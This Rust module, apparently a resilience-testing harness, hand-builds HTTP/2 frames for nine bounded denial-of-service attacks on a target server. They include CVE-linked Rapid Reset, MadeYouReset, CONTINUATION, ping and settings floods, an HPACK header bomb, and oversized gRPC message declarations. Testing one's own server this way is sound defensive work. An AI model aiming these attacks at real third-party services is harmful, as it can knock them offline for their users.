//! What a hostile peer sends: HTTP/2 frames made by hand, so that no library keeps us from
//! breaking the rules. Every attack is bounded in frames and ends when the victim hangs up.

mod connection;
mod hpack;
mod nested;

pub use connection::{Attacker, Ending};
pub use nested::{nested_json, nested_protobuf};

use connection::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE,
};
use std::io;
use std::net::SocketAddr;

/// A way to misuse an HTTP/2 connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Opens streams and resets each at once (CVE-2023-44487).
    RapidReset,
    /// Has the victim reset each stream, by an illegal WINDOW_UPDATE (CVE-2025-8671).
    MadeYouReset,
    /// One header block that never ends (CVE-2024-27316).
    ContinuationFlood,
    /// One large entry in the header table, referred to thousands of times on each stream.
    HeaderBomb,
    /// Changes of settings, each of which must be acknowledged (CVE-2019-9515).
    SettingsFlood,
    /// PINGs, each of which must be answered (CVE-2019-9512).
    PingFlood,
    /// Frames without payload that a stream may have any number of (CVE-2019-9518).
    EmptyDataFlood,
    /// Priorities of streams that do not exist (CVE-2019-9513).
    PriorityFlood,
    /// Frames of a type nobody knows, which must be ignored.
    UnknownFlood,
}

impl Attack {
    pub const ALL: [Self; 9] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::ContinuationFlood,
        Self::HeaderBomb,
        Self::SettingsFlood,
        Self::PingFlood,
        Self::EmptyDataFlood,
        Self::PriorityFlood,
        Self::UnknownFlood,
    ];

    /// Attacks `victim` on one connection, for at most `rounds` rounds of a few frames, and says
    /// how it ended. Everything that the victim sends is read, so that only its own limits stop it.
    pub fn run(self, victim: SocketAddr, rounds: u32) -> Ending {
        let mut attacker = match Attacker::connect(victim) {
            Ok(attacker) => attacker,
            Err(_) => return Ending::Closed { goaway: None },
        };
        for round in 0..rounds {
            if attacker.is_closed() || self.round(&mut attacker, round).is_err() {
                break;
            }
        }
        attacker.finish()
    }

    /// The frames of one round. Errors: the victim hung up.
    fn round(self, attacker: &mut Attacker, round: u32) -> io::Result<()> {
        // Client streams have odd numbers; 2^31 is out of a bounded attack's reach.
        let stream = round * 2 + 1;
        match self {
            Self::RapidReset => {
                attacker.send(HEADERS, END_HEADERS, stream, &hpack::export_request())?;
                attacker.send(RST_STREAM, 0, stream, &8u32.to_be_bytes())
            }
            Self::MadeYouReset => {
                attacker.send(HEADERS, END_HEADERS, stream, &hpack::export_request())?;
                // An increment of 0 is an error of the stream (RFC 9113, section 6.9).
                attacker.send(WINDOW_UPDATE, 0, stream, &[0; 4])
            }
            Self::ContinuationFlood if round == 0 => {
                attacker.send(HEADERS, 0, 1, &hpack::export_request())
            }
            Self::ContinuationFlood => {
                attacker.send(CONTINUATION, 0, 1, &hpack::literal("x-more", "y"))
            }
            Self::HeaderBomb if round == 0 => {
                let block = [
                    hpack::export_request(),
                    hpack::indexed_literal("x-bomb", &"b".repeat(4_000)),
                ];
                attacker.send(HEADERS, END_HEADERS, stream, &block.concat())
            }
            Self::HeaderBomb => {
                // 8000 bytes that stand for 32 MB of headers.
                let block = [hpack::export_request(), vec![hpack::NEWEST_ENTRY; 8_000]];
                attacker.send(HEADERS, END_HEADERS, stream, &block.concat())
            }
            // SETTINGS_INITIAL_WINDOW_SIZE, now one value and now another.
            Self::SettingsFlood => {
                let size = 65_535 - (round % 2);
                attacker.send(SETTINGS, 0, 0, &[&[0, 4][..], &size.to_be_bytes()].concat())
            }
            Self::PingFlood => attacker.send(PING, 0, 0, &u64::from(round).to_be_bytes()),
            Self::EmptyDataFlood if round == 0 => {
                attacker.send(HEADERS, END_HEADERS, 1, &hpack::export_request())
            }
            Self::EmptyDataFlood => attacker.send(DATA, 0, 1, &[]),
            // Depends on nothing, weight 1.
            Self::PriorityFlood => attacker.send(PRIORITY, 0, stream, &[0; 5]),
            Self::UnknownFlood => attacker.send(0xfa, 0, 0, b"unknown"),
        }
    }
}

/// Opens a stream whose gRPC message declares `bytes` and brings none of them, then waits for the
/// victim's verdict on it.
pub fn declare_message(victim: SocketAddr, bytes: u32) -> io::Result<Attacker> {
    let mut attacker = Attacker::connect(victim)?;
    attacker.send(HEADERS, END_HEADERS, 1, &hpack::export_request())?;
    let prefix = [&[0][..], &bytes.to_be_bytes()].concat();
    attacker.send(DATA, 0, 1, &prefix)?;
    Ok(attacker)
}

/// One complete gRPC request with `message` as its body, answered or not.
pub fn send_message(victim: SocketAddr, message: &[u8]) -> io::Result<Attacker> {
    let mut attacker = Attacker::connect(victim)?;
    attacker.send(HEADERS, END_HEADERS, 1, &hpack::export_request())?;
    let length = u32::try_from(message.len()).expect("an attack of less than 4 GiB");
    let body = [&[0][..], &length.to_be_bytes(), message].concat();
    // Within the initial windows of 64 KiB, in frames of at most 16 KiB.
    assert!(body.len() < 65_535, "an attacker waits for no window");
    let mut chunks = body.chunks(16_384).peekable();
    while let Some(chunk) = chunks.next() {
        let flags = if chunks.peek().is_none() {
            END_STREAM
        } else {
            0
        };
        attacker.send(DATA, flags, 1, chunk)?;
    }
    Ok(attacker)
}
